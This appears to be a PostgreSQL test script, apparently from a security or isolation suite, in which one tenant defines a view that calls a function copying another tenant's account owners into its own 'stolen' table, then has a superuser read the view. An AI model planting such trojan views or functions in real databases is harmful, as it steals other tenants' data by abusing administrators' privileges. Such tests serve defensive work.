-- A superuser reads the attacker's view.
CREATE TABLE stolen (what text);
CREATE FUNCTION spies() RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts; RETURN 1; END $$;
CREATE VIEW bait AS SELECT spies();
-- @session operator
TABLE tenant_alpha.bait;
-- @session attacker
TABLE stolen;
